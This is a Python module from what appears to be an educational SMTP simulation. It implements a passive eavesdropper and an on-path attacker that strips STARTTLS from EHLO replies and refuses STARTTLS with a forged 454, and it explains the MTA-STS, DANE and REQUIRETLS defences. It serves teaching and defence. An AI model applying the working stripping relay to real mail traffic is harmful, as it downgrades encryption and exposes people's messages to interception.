"""Attacks on the path between two mail servers: the eavesdropper and the STARTTLS stripper.

Two people stand on the wire between ``mail.example.com`` and ``mail.anotherdomain.org``:

* **Eve, the passive eavesdropper** (:class:`Eavesdropper`, ``net.eavesdropper(between=(a,
  b))``) only reads. She sees every connection between the two hosts' addresses in the
  capture, live, and reports what is readable: with STARTTLS only what TLS leaks (greeting,
  EHLO, the STARTTLS command, the ClientHello's SNI and cipher suites); without it the
  envelope, the headers and the body.
* **Mallory, the active on-path attacker** (:class:`OnPathAttacker`,
  ``net.strip_starttls(target="mail.anotherdomain.org")``) sits in the path as a
  transparent relay (a hostile router or ISP middlebox): the senders' connections to the
  target's port 25 reach her instead, and she forwards the bytes both ways to the real MX.
  On the way back she deletes the ``250-STARTTLS`` line from the EHLO reply, keeping the
  reply well formed (when STARTTLS was the last line, the line before it becomes the
  ``250 `` line, RFC 5321 §4.2.1). A STARTTLS the client sends anyway is answered by
  Mallory herself with ``454 4.7.0 TLS not available due to local problem`` (RFC 3207 §4;
  Postfix's words) and never reaches the server (``on_starttls="forward"`` passes it on
  instead: then TLS runs end to end through her and she reads nothing).

Mallory is transparent the way such boxes are: the sender still connects to the target's
address (only the port differs here, because the real MX already listens on 25 there), and
her connection to the real MX comes from the *sender's* address, so the MX's SPF check
sees the right client. Both legs are real TCP connections, both are in the capture (the
first recorded by her, the second by the MX) and both are "between the two hosts" for Eve.
What she did goes to the trace: ``attack.started``, ``attack.intercept`` (a connection
relayed), ``attack.strip_starttls`` (the line removed, the reply before and after),
``attack.starttls_refused``, ``attack.stopped``.

:data:`EXPLANATION` (or :func:`explain`) is the text a notebook prints: why stripping works
and what really defends against it (MTA-STS, DANE, REQUIRETLS).
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
from collections import deque
from collections.abc import Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Literal, cast

from simsmtp.capture.eavesdropper import Findings
from simsmtp.capture.path import Leg, PathView, view_path
from simsmtp.capture.tlsinspect import KeyLog
from simsmtp.protocol.replies import Reply

from ..traffic import Address
from .tap import next_conn_id

if TYPE_CHECKING:
    from .runtime import RunningWorld

__all__ = [
    "EXPLANATION",
    "STARTTLS_UNAVAILABLE",
    "Eavesdropper",
    "OnPathAttacker",
    "Relayed",
    "StartTLSStripper",
    "Tampering",
    "explain",
    "strip_starttls_lines",
]

#: What the attacker answers to a STARTTLS it does not let through (RFC 3207 §4: 454 "TLS
#: not available due to temporary reason"; the text is Postfix's).
STARTTLS_UNAVAILABLE = Reply(454, "4.7.0 TLS not available due to local problem")

#: How the sender's connection goes on when it sends STARTTLS anyway.
OnStartTLS = Literal["refuse", "forward"]

EXPLANATION = """\
Why STARTTLS stripping works
----------------------------
SMTP between mail servers starts in plaintext. The receiving server offers encryption by
listing STARTTLS in its EHLO reply (RFC 3207), and the sender upgrades only if it sees that
line. That offer itself travels unprotected: anyone on the path can delete the
"250-STARTTLS" line, or answer the STARTTLS command with "454 TLS not available", and
nothing tells the sender that the reply was changed.

A sender with opportunistic TLS (RFC 7435, the default of nearly every MTA) encrypts when it
can and sends in plaintext when it cannot, because refusing would bounce mail to the many
old servers without TLS. It cannot tell "this server has no TLS" from "someone removed the
offer": so it falls back to plaintext, and the eavesdropper reads the envelope, the
headers and the body. Even when TLS is used, an opportunistic sender does not check the
certificate, so an active attacker could also terminate TLS herself.

A sender that requires TLS (outbound_tls = "required") refuses to send without it: the
message waits in the queue and the trace says why ("TLS is required by policy but the
server did not offer STARTTLS"). The mail is safe but late, and a sender cannot require TLS
from every domain on the Internet: it needs to know which receivers promise TLS.

The real defences let the RECEIVING domain make that promise through a channel the
attacker cannot rewrite:

* MTA-STS (RFC 8461): the domain publishes a TXT record _mta-sts.<domain> and, over HTTPS
  (protected by the web PKI), a policy file at https://mta-sts.<domain>/.well-known/
  mta-sts.txt saying "mode: enforce" and which MX names are valid. A sender that has the
  policy requires STARTTLS with a certificate valid for the MX name, and caches the policy
  (max_age) so a later attacker cannot simply hide it (trust on first use).
* DANE for SMTP (RFC 7672, RFC 6698): the domain signs its DNS zone with DNSSEC and
  publishes TLSA records at _25._tcp.<mx host> with the MX's certificate or key. A
  DANE-aware sender that finds authenticated TLSA records must use STARTTLS and must see
  that certificate; a stripped STARTTLS or a forged certificate means "do not deliver".
* REQUIRETLS (RFC 8689): per message, the sender asks that this message travel only over
  TLS (validated by MTA-STS or DANE) on every hop, or bounce.

TLS-RPT (RFC 8460) then lets the receiving domain collect reports of such failures, so an
attack on the path is noticed instead of silently tolerated.
"""


def explain() -> str:
    """Why stripping works and the real defences (MTA-STS, DANE, REQUIRETLS): print it."""
    return EXPLANATION


# ------------------------------------------------------------------------------ pure part

def _is_starttls_line(line: bytes) -> bool:
    """``250-STARTTLS`` / ``250 STARTTLS`` (any case, RFC 5321 §2.4: keywords are not case
    sensitive)."""
    return line[4:].strip().upper() == b"STARTTLS"


def strip_starttls_lines(lines: list[bytes]) -> tuple[list[bytes], list[bytes]]:
    """Remove the STARTTLS capability from the lines of an EHLO reply, keeping it well formed.

    The first line (the server's name, RFC 5321 §4.1.1.1) is never removed. Every line but
    the last keeps ``code-``, the last gets ``code `` (RFC 5321 §4.2.1): when STARTTLS was
    the last line, the line before it becomes the final one.

    Args:
        lines: the reply's lines, each with its line ending.

    Returns:
        (the new lines, the lines removed). Unchanged lines keep their exact bytes.
    """
    removed = [line for line in lines[1:] if _is_starttls_line(line)]
    if not removed:
        return list(lines), []
    kept = [lines[0], *(line for line in lines[1:] if not _is_starttls_line(line))]
    fixed = []
    for index, line in enumerate(kept):
        separator = b" " if index == len(kept) - 1 else b"-"
        if line[3:4] in (b" ", b"-"):  # a bare "250\r\n" stays as it is
            line = line[:3] + separator + line[4:]
        fixed.append(line)
    return fixed, removed


@dataclass(frozen=True)
class Tampering:
    """One thing the stripper did to a conversation.

    Attributes:
        action: ``strip_starttls`` (a capability line removed), ``starttls_refused`` (a
            STARTTLS answered by the attacker) or ``starttls_forwarded`` (let through).
        line: the line removed or the command intercepted (without its line ending).
        before: the server's reply as it was (``strip_starttls``).
        after: what the client got instead.
    """

    action: str
    line: str
    before: str = ""
    after: str = ""


_GREETING = "<greeting>"
_CONTENT = "<content>"
_INJECT = "<inject>"


def _text(data: bytes) -> str:
    return data.decode("utf-8", "replace")


class StartTLSStripper:
    """The tampering of one relayed SMTP connection, sans-IO: bytes in, bytes out.

    Feed the client's bytes to :meth:`from_client` and the server's to :meth:`from_server`;
    drain what goes on with :meth:`to_server` and :meth:`to_client`. It follows the
    conversation as the server does (commands, DATA content to ``CRLF . CRLF`` per RFC 5321
    §4.1.1.4, BDAT chunks per RFC 3030 §2, pipelined replies in order per RFC 2920), so it
    knows which reply answers EHLO, and where to put its own ``454`` among the replies.

    Args:
        strip: remove STARTTLS from EHLO replies.
        on_starttls: ``"refuse"``: answer a STARTTLS with :data:`STARTTLS_UNAVAILABLE`
            and never forward it; ``"forward"``: pass it on (after a ``220`` the relay only
            copies TLS records it cannot read).
    """

    def __init__(self, *, strip: bool = True, on_starttls: OnStartTLS = "refuse") -> None:
        if on_starttls not in ("refuse", "forward"):
            raise ValueError(f"on_starttls must be 'refuse' or 'forward', not {on_starttls!r}")
        self.strip = strip
        self.on_starttls = on_starttls
        #: What the server's next replies answer, in order (RFC 2920 §3.2: replies come in
        #: the order of the commands).
        self._pending: deque[str] = deque([_GREETING])
        self._c_buf = b""
        self._s_buf = b""
        self._c_mode = "command"  # command | wait | content | bdat | raw
        self._s_raw = False
        self._bdat_left = 0
        self._tail = b""  # the last bytes of DATA content seen (the end may straddle reads)
        self._reply: list[bytes] = []
        self._out_server: list[bytes] = []
        self._out_client: list[bytes] = []
        self._actions: list[Tampering] = []
        #: Everything done so far (never drained).
        self.history: list[Tampering] = []

    # -- input -------------------------------------------------------------------------
    def from_client(self, data: bytes) -> None:
        """Bytes the client sent (towards the server)."""
        self._c_buf += data
        self._process_client()

    def from_server(self, data: bytes) -> None:
        """Bytes the server sent (towards the client)."""
        if self._s_raw:
            self._out_client.append(data)
            return
        self._s_buf += data
        self._process_server()

    # -- output ------------------------------------------------------------------------
    def to_server(self) -> bytes:
        """Drain the bytes to forward to the server."""
        out, self._out_server = b"".join(self._out_server), []
        return out

    def to_client(self) -> bytes:
        """Drain the bytes to send to the client."""
        out, self._out_client = b"".join(self._out_client), []
        return out

    def actions(self) -> list[Tampering]:
        """Drain what was done since the last call (see :attr:`history` for all)."""
        out, self._actions = self._actions, []
        return out

    @property
    def passthrough(self) -> bool:
        """True once a forwarded STARTTLS succeeded: only TLS records cross from then on."""
        return self._s_raw

    # -- the client's side -------------------------------------------------------------
    def _act(self, action: Tampering) -> None:
        self._actions.append(action)
        self.history.append(action)

    def _process_client(self) -> None:
        while self._c_buf:
            mode = self._c_mode
            if mode == "raw":
                self._out_server.append(self._c_buf)
                self._c_buf = b""
            elif mode == "wait":  # DATA or STARTTLS sent: nothing is a command until the
                return            # server's answer says what the next bytes are
            elif mode == "bdat":
                chunk = self._c_buf[:self._bdat_left]
                self._c_buf = self._c_buf[len(chunk):]
                self._out_server.append(chunk)
                self._bdat_left -= len(chunk)
                if not self._bdat_left:
                    self._c_mode = "command"
            elif mode == "content":
                window = self._tail + self._c_buf
                end = window.find(b"\r\n.\r\n")  # RFC 5321 §4.1.1.4: only CRLF . CRLF
                if end < 0:
                    self._out_server.append(self._c_buf)
                    self._tail = window[-4:]
                    self._c_buf = b""
                else:
                    cut = end + 5 - len(self._tail)
                    self._out_server.append(self._c_buf[:cut])
                    self._c_buf = self._c_buf[cut:]
                    self._c_mode = "command"
                    self._pending.append(_CONTENT)
            else:
                newline = self._c_buf.find(b"\n")
                if newline < 0:
                    return
                line, self._c_buf = self._c_buf[:newline + 1], self._c_buf[newline + 1:]
                self._command(line)

    def _command(self, line: bytes) -> None:
        words = line.split()
        verb = _text(words[0]).upper() if words else ""
        if verb == "STARTTLS" and self.on_starttls == "refuse":
            self._act(Tampering("starttls_refused", _text(line).rstrip("\r\n"),
                                after=str(STARTTLS_UNAVAILABLE)))
            self._pending.append(_INJECT)
            self._inject()
            return
        self._out_server.append(line)
        self._pending.append(verb)
        if verb in ("DATA", "STARTTLS"):
            self._c_mode = "wait"
        elif verb == "BDAT" and len(words) > 1 and words[1].isdigit() and int(words[1]):
            self._bdat_left = int(words[1])
            self._c_mode = "bdat"

    # -- the server's side -------------------------------------------------------------
    def _inject(self) -> None:
        """Send our own replies once every reply before them has gone to the client."""
        while self._pending and self._pending[0] == _INJECT:
            self._pending.popleft()
            self._out_client.append(STARTTLS_UNAVAILABLE.to_bytes())

    def _process_server(self) -> None:
        while not self._s_raw:
            newline = self._s_buf.find(b"\n")
            if newline < 0:
                return
            line, self._s_buf = self._s_buf[:newline + 1], self._s_buf[newline + 1:]
            self._reply.append(line)
            if line[3:4] == b"-":  # RFC 5321 §4.2.1: more lines follow
                continue
            reply, self._reply = self._reply, []
            self._server_reply(reply)
        if self._s_buf:  # TLS from here on: copy it
            self._out_client.append(self._s_buf)
            self._s_buf = b""

    def _server_reply(self, lines: list[bytes]) -> None:
        answers = self._pending.popleft() if self._pending else ""
        code = lines[0][:3]
        if answers == "EHLO" and code == b"250" and self.strip:
            new, removed = strip_starttls_lines(lines)
            if removed:
                for line in removed:
                    self._act(Tampering("strip_starttls", _text(line).rstrip("\r\n"),
                                        before=_text(b"".join(lines)),
                                        after=_text(b"".join(new))))
                lines = new
        self._out_client.append(b"".join(lines))
        if answers == "DATA":
            self._c_mode, self._tail = ("content", b"\r\n") if code == b"354" \
                else ("command", b"")
            self._process_client()
        elif answers == "STARTTLS":
            self._act(Tampering("starttls_forwarded", "STARTTLS",
                                after=_text(b"".join(lines))))
            if code == b"220":  # RFC 3207 §4: the TLS handshake starts now
                self._c_mode = "raw"
                self._s_raw = True
            else:
                self._c_mode = "command"
            self._process_client()
        self._inject()


# ------------------------------------------------------------------------------ the relay

@dataclass
class Relayed:
    """One connection the attacker relayed.

    Attributes:
        conn_id: the sender's leg in the capture (recorded by the attacker).
        client: the sender's (ip, port).
        upstream: the local (ip, port) of the attacker's connection to the real MX (the
            MX records that leg; :meth:`OnPathAttacker.pairs` finds its id).
        actions: what was done to the conversation.
    """

    conn_id: int
    client: Address
    upstream: Address | None = None
    actions: list[Tampering] = field(default_factory=list)


class _Relay:
    """Both legs of one relayed connection, on the world's event loop."""

    def __init__(self, attacker: OnPathAttacker, transport: asyncio.Transport) -> None:
        self.attacker = attacker
        self.client = transport
        self.upstream: asyncio.Transport | None = None
        self.upstream_socket: Address | None = None
        self.stripper = StartTLSStripper(strip=attacker.strip,
                                         on_starttls=attacker.on_starttls)
        peer = transport.get_extra_info("peername")
        local = transport.get_extra_info("sockname")
        #: The sender's socket address, and who it is in the world (they differ where
        #: every host shares 127.0.0.1).
        self.peer_socket: Address = (str(peer[0]), int(peer[1]))
        book = attacker.net.address_book
        self.peer: Address = book.identify(self.peer_socket)
        self.local: Address = book.identify((str(local[0]), int(local[1])))
        tap = attacker.net.tap
        self.id = next_conn_id(tap)
        self.info = Relayed(self.id, self.peer)
        self.closed_by: str | None = None
        tap.open(self.id, "tcp", client=self.peer, server=self.local, service="smtp",
                 host=attacker.name)
        attacker.record("attack.intercept", conn=self.id,
                        client=f"{self.peer[0]}:{self.peer[1]}",
                        target=attacker.target,
                        upstream=f"{attacker.upstream[0]}:{attacker.upstream[1]}")
        self.task = asyncio.get_running_loop().create_task(self._connect())

    async def _connect(self) -> None:
        loop = asyncio.get_running_loop()
        ip, port = self.attacker.upstream
        book = self.attacker.net.address_book
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        local: Address | None = None
        try:
            # From the sender's own address: a transparent box leaves the addresses alone
            # (its socket address, and its identity in the world's address book).
            sock.setblocking(False)
            sock.bind((self.peer_socket[0], 0))
            name = sock.getsockname()
            local = (str(name[0]), int(name[1]))
            self.info.upstream = book.outgoing(local, self.peer[0])
            await loop.sock_connect(sock, (ip, port))
            transport, _ = await loop.create_connection(lambda: _UpstreamSide(self), sock=sock)
        except OSError as exc:
            sock.close()
            if local is not None:
                book.forget(local)
            self.attacker.record("attack.upstream_failed", conn=self.id, error=str(exc))
            self.close_client("server")
            return
        self.upstream = transport
        self.upstream_socket = local
        if self.client.is_closing():  # the sender left while we were connecting
            self.upstream.close()
            return
        self.flush()

    def from_client(self, data: bytes) -> None:
        self.attacker.net.tap.data(self.id, "c2s", data)
        self.stripper.from_client(data)
        self.flush()

    def from_server(self, data: bytes) -> None:
        self.stripper.from_server(data)
        self.flush()

    def flush(self) -> None:
        for action in self.stripper.actions():
            self.info.actions.append(action)
            self.attacker.note(self, action)
        if self.upstream is not None and not self.upstream.is_closing():
            data = self.stripper.to_server()
            if data:
                self.upstream.write(data)
        data = self.stripper.to_client()
        if data and not self.client.is_closing():
            self.attacker.net.tap.data(self.id, "s2c", data)
            self.client.write(data)

    def close_client(self, by: str) -> None:
        self.closed_by = self.closed_by or by
        if not self.client.is_closing():
            self.client.close()

    def close_upstream(self) -> None:
        self.closed_by = self.closed_by or "client"
        if self.upstream is not None and not self.upstream.is_closing():
            self.upstream.close()
        elif self.upstream is None:
            self.task.cancel()

    def client_gone(self) -> None:
        self.attacker.net.tap.close(self.id, by=self.closed_by or "client")
        self.close_upstream()
        self.attacker.forget(self)


class _ClientSide(asyncio.Protocol):
    """The sender's leg: the attacker plays the server."""

    def __init__(self, attacker: OnPathAttacker) -> None:
        self.attacker = attacker
        self.relay: _Relay | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.relay = _Relay(self.attacker, cast(asyncio.Transport, transport))
        self.attacker.relays.append(self.relay.info)
        self.attacker.active.add(self.relay)

    def data_received(self, data: bytes) -> None:
        assert self.relay is not None
        self.relay.from_client(data)

    def eof_received(self) -> bool | None:
        assert self.relay is not None
        self.relay.closed_by = self.relay.closed_by or "client"
        self.relay.close_upstream()
        return None

    def connection_lost(self, exc: Exception | None) -> None:
        if self.relay is not None:
            self.relay.client_gone()


class _UpstreamSide(asyncio.Protocol):
    """The attacker's leg to the real MX: the attacker plays the sender."""

    def __init__(self, relay: _Relay) -> None:
        self.relay = relay

    def data_received(self, data: bytes) -> None:
        self.relay.from_server(data)

    def connection_lost(self, exc: Exception | None) -> None:
        if self.relay.upstream_socket is not None:
            self.relay.attacker.net.address_book.closed(self.relay.upstream_socket)
        self.relay.flush()
        self.relay.close_client("server")


class OnPathAttacker:
    """An active attacker on the path to ``target``'s port 25 (see the module docstring).

    Usually made by ``net.strip_starttls(target=...)``, which also starts it. While it runs,
    the world's outbound agents reach ``target`` through it; :meth:`stop` (or leaving a
    ``with`` block) puts the direct path back.

    Args:
        net: the running world.
        target: the MX host to stand in front of.
        name: what the trace and the capture call the attacker.
        strip: remove STARTTLS from EHLO replies (False: relay the replies unchanged).
        on_starttls: ``"refuse"`` answers a STARTTLS with ``454`` itself; ``"forward"``
            lets it through (TLS then runs end to end and the attacker reads nothing).
    """

    def __init__(self, net: RunningWorld, target: str = "mail.anotherdomain.org", *,
                 name: str = "mitm", strip: bool = True,
                 on_starttls: OnStartTLS = "refuse") -> None:
        if on_starttls not in ("refuse", "forward"):
            raise ValueError(f"on_starttls must be 'refuse' or 'forward', not {on_starttls!r}")
        self.net = net
        self.target = net.world.host(target).name
        self.name = name
        self.strip = strip
        self.on_starttls: OnStartTLS = on_starttls
        self.relays: list[Relayed] = []
        self.active: set[_Relay] = set()
        self.upstream: Address = ("", 0)
        self._server: asyncio.Server | None = None
        self._address: Address | None = None

    # -- lifecycle -----------------------------------------------------------------------
    def start(self) -> OnPathAttacker:
        """Listen on the target's address and divert the senders' port 25 to it."""
        if self._server is None:
            self.net.run(self._start())
        return self

    async def _start(self) -> None:
        self.upstream = self.net.address(self.target, 25)  # the real MX, still reachable
        loop = asyncio.get_running_loop()
        self._server = await loop.create_server(lambda: _ClientSide(self), self.upstream[0], 0)
        sock = self._server.sockets[0].getsockname()
        self._address = (str(sock[0]), int(sock[1]))
        # In the world, she stands at the target's own address (another port).
        self.net.address_book.listening(self._address, self.net.hosts[self.target].ip)
        self.net.redirects[self.target] = self._address[1]
        if self not in self.net.attackers:
            self.net.attackers.append(self)
        self.record("attack.started", target=self.target,
                    listen=f"{self._address[0]}:{self._address[1]}",
                    upstream=f"{self.upstream[0]}:{self.upstream[1]}",
                    strip=self.strip, on_starttls=self.on_starttls)

    def stop(self) -> None:
        """Take the attacker off the path (senders reach the target directly again)."""
        if self._server is not None and self.net.running:
            self.net.run(self.aclose())

    async def aclose(self) -> None:
        """:meth:`stop` from inside the world's loop (the world calls it when it stops)."""
        server, self._server = self._server, None
        if server is None:
            return
        if self.net.redirects.get(self.target) == (self._address or ("", 0))[1]:
            del self.net.redirects[self.target]
        with contextlib.suppress(ValueError):
            self.net.attackers.remove(self)
        server.close()
        if self._address is not None:
            self.net.address_book.stopped_listening(self._address)
        for relay in list(self.active):
            relay.close_upstream()
            relay.close_client("server")
        await server.wait_closed()
        self.record("attack.stopped", target=self.target, relayed=len(self.relays))

    def __enter__(self) -> OnPathAttacker:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()

    @property
    def running(self) -> bool:
        """True while the attacker is on the path."""
        return self._server is not None

    @property
    def address(self) -> Address:
        """Where the attacker listens (the target's IP, another port)."""
        if self._address is None:
            raise RuntimeError("the attacker is not started")
        return self._address

    # -- what it did -------------------------------------------------------------------
    def record(self, kind: str, **data: Any) -> None:
        """Append an ``attack.*`` event to the world's trace."""
        self.net.world.trace.record(kind, host=self.name, **data)

    def note(self, relay: _Relay, action: Tampering) -> None:
        """Record one tampering in the trace (called by the relay)."""
        upstream = self._upstream_conn(relay.info)
        data: dict[str, Any] = {"conn": relay.id, "upstream_conn": upstream}
        if action.action == "strip_starttls":
            data.update(line=action.line, reply_before=action.before,
                        reply_after=action.after)
        else:
            data.update(command=action.line, reply=action.after)
        self.record(f"attack.{action.action}", **data)

    def forget(self, relay: _Relay) -> None:
        """The relay is over."""
        self.active.discard(relay)

    def _upstream_conn(self, info: Relayed) -> int | None:
        if info.upstream is None:
            return None
        server = self.net.address_book.identify(self.upstream)
        for conn in self.net.tap.connections():
            if conn.client == info.upstream and conn.server == server:
                return conn.id
        return None

    def pairs(self) -> list[tuple[int, int | None]]:
        """(sender's leg, leg to the real MX) connection ids of every relayed connection."""
        return [(info.conn_id, self._upstream_conn(info)) for info in self.relays]

    @property
    def actions(self) -> list[Tampering]:
        """Everything done to every relayed conversation, in order."""
        return [action for info in self.relays for action in info.actions]

    def explain(self) -> str:
        """Why stripping works and what defends against it (:data:`EXPLANATION`)."""
        return EXPLANATION

    def __repr__(self) -> str:
        where = f"{self._address[0]}:{self._address[1]}" if self._address else "stopped"
        return (f"<OnPathAttacker {self.name} in front of {self.target} at {where}, "
                f"{len(self.relays)} relayed>")


# ------------------------------------------------------------------------------ the eavesdropper

class Eavesdropper:
    """A passive eavesdropper on the path between two hosts of a running world.

    It reads the capture (``net.tap``) each time it is asked, so its view is live: call
    :meth:`report` again while mail flows and new connections appear.

    Args:
        net: the running world.
        between: the two hosts' names (e.g. ``("mail.example.com",
            "mail.anotherdomain.org")``).
        keylog: give Eve the TLS session keys too (as Wireshark with a key log); what she
            then reads inside TLS is marked ``inside_tls``.
        services: only these services (default: every TCP connection between the two).
    """

    def __init__(self, net: RunningWorld, between: tuple[str, str], *,
                 keylog: KeyLog | Path | str | None = None,
                 services: Iterable[str] | None = None) -> None:
        a, b = (net.world.host(name).name for name in between)
        self.net = net
        self.names = (a, b)
        self.keylog = keylog
        self.services = None if services is None else tuple(services)
        self._seen: set[int] = set()

    @property
    def addresses(self) -> tuple[frozenset[str], frozenset[str]]:
        """Each host's IP addresses (what the eavesdropper filters on)."""
        a, b = self.names
        return frozenset({self.net.hosts[a].ip}), frozenset({self.net.hosts[b].ip})

    def view(self) -> PathView:
        """The :class:`~simsmtp.capture.path.PathView` of the path now."""
        a_ips, b_ips = self.addresses
        return view_path(self.net.tap, a_ips, b_ips, names=self.names, keylog=self.keylog,
                         services=self.services)

    def findings(self) -> Findings:
        """Everything read so far, all connections merged."""
        return self.view().findings

    def report(self) -> str:
        """The eavesdropper's report, connection by connection (print it)."""
        return self.view().report()

    def updates(self) -> list[Leg]:
        """The connections that ended since the last call, with what was read from each
        (for a notebook cell that polls)."""
        fresh = [leg for leg in self.view().legs
                 if leg.closed and leg.connection.id not in self._seen]
        self._seen.update(leg.connection.id for leg in fresh)
        return fresh

    def __repr__(self) -> str:
        return f"<Eavesdropper between {self.names[0]} and {self.names[1]}>"
